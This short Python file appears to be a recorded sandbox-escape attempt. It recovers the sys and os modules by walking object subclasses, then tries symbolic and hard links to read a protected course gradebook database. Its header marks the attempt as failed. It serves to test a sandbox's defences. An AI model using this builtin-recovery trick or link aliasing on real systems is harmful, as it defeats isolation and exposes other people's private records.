# /// attack
# rows = [22, 43]
# title = "read a secret through a symbolic and a hard link"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os = sys.modules["os"]
for link in (os.symlink, os.link):
    try:
        link("COURSE/gradebook.db", "innocent")
        print(open("innocent").read())
    except OSError as error:
        print(type(error).__name__)
